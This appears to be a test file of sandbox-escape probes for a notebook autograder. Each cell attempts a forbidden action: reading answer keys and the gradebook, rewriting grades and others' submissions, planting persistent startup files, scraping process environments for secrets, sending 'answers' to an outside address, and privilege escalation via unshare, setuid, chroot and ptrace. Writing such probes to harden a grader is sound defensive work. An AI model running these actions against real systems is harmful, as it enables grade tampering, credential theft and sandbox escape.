# Cells that reach for what is not theirs. Each stands at the top of an honest answer, is run in a box, and prints
# REACHED if it gets there. CLASSROOM, PACKAGE, OUTSIDE and PORT are replaced by the places that are to be kept safe.

# %% name="reads the solutions"
from pathlib import Path

print("REACHED", Path("CLASSROOM/solutions/00_powers/powers.ipynb").read_text())

# %% name="reads the answers kept for the tests"
import glob

print("REACHED", [open(path).read() for path in glob.glob("PACKAGE/tests/*/*.py")][0])

# %% name="reads the gradebook"
import sqlite3

print(
    "REACHED",
    sqlite3.connect("file:CLASSROOM/gradebook.db?mode=ro", uri=True).execute("select * from grade").fetchall(),
)

# %% name="writes into the gradebook"
import sqlite3

with sqlite3.connect("CLASSROOM/gradebook.db") as gradebook:
    gradebook.execute("update grade set manual_score = 100")
print("REACHED")

# %% name="reads another submission"
from pathlib import Path

print("REACHED", Path("CLASSROOM/submitted/honest/00_powers/powers.ipynb").read_text())

# %% name="overwrites another submission"
from pathlib import Path

for place in ("submitted", "autograded"):
    Path(f"CLASSROOM/{place}/honest/00_powers/powers.ipynb").write_text("{}")
print("REACHED")

# %% name="finds its own notebook with the hidden tests"
from pathlib import Path

print("REACHED", [path.read_text() for path in Path.cwd().rglob("*.ipynb")][0])

# %% name="puts a link to the gradebook in the place of its notebook"
import os

os.symlink("CLASSROOM/gradebook.db", "powers.ipynb")

# %% name="plants a module in the package"
from pathlib import Path

Path("PACKAGE/planted.py").write_text("")
print("REACHED")

# %% name="plants a file that every Python runs"
import site
from pathlib import Path

Path(site.getsitepackages()[0], "planted.pth").write_text("import os; os.environ['PLANTED'] = '1'\n")
print("REACHED")

# %% name="plants a start-up file for the next kernel"
from pathlib import Path

folder = Path.home() / ".ipython/profile_default/startup"
folder.mkdir(parents=True, exist_ok=True)
shows = "get_ipython().events.register('pre_run_cell', lambda info: print('REACHED the next kernel'))"
(folder / "00-planted.py").write_text(shows)

# %% name="leaves a file in the folder for temporary files"
import tempfile
from pathlib import Path

Path(tempfile.gettempdir(), "autograder-planted").write_text("")
Path("/tmp/autograder-planted").write_text("")

# %% name="reads a file of the instructor's"
print("REACHED", open("OUTSIDE/diary.txt").read())

# %% name="reads the environment of the grader"
import glob
import os

seen = [dict(os.environ)]
for path in glob.glob("/proc/*/environ"):
    try:
        seen.append(open(path).read())
    except OSError:
        pass
if "open-sesame" in str(seen):
    print("REACHED")

# %% name="connects to a server of this machine"
import socket

socket.create_connection(("127.0.0.1", PORT), timeout=2)
print("REACHED")

# %% name="sends a datagram"
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"answers", ("127.0.0.1", PORT))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"answers", ("192.0.2.1", 53))
print("REACHED")

# %% name="connects to a socket without a file"
import socket

socket.socket(socket.AF_UNIX).connect("\0autograder-PORT")
print("REACHED")

# %% name="looks for the grader among the processes"
import glob

for path in glob.glob("/proc/[0-9]*/cmdline"):
    if b"autograde" in open(path, "rb").read().replace(b"autograder", b""):
        print("REACHED", path)

# %% name="overwrites the program that it is"
import os

if not os.statvfs("/proc/self/exe").f_flag & os.ST_RDONLY:  # Linux may refuse only for as long as it runs
    print("REACHED")
with open("/proc/self/exe", "r+b") as program:
    print("REACHED", program)

# %% name="changes a setting of the system"
open("/proc/sys/kernel/core_pattern", "w").write("core")
print("REACHED")

# %% name="gives itself more rights"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for how, done in {
    "a user namespace": libc.unshare(0x10000000),
    "a mount namespace": libc.unshare(0x20000),
    "a mount": libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "a writable system": libc.mount(None, b"/usr", None, 0x1020, None),
    "another root": libc.chroot(b"/proc/1/root"),
    "another user": libc.setuid(0),
}.items():
    if done == 0:
        print("REACHED", how)

# %% name="takes hold of the first process"
import ctypes

libc = ctypes.CDLL(None)
if libc.ptrace(16, 1, None, None) == 0:
    import os

    print(os.listdir("/proc/1/root/"), [name for name in os.listdir("/") if name == "root"])

# %% name="puts another socket in the place of its own"
import json
import os

from ipykernel.connect import get_connection_file

print(json.load(open(get_connection_file()))["key"][:0])
os.unlink(get_connection_file())
print("REACHED")

# %% name="leaves through an open folder"
import os

for number in range(3, 1024):
    try:
        names = os.listdir(number)
    except OSError:
        continue
    if not os.readlink(f"/proc/self/fd/{number}").startswith("/proc"):
        print("REACHED", names)
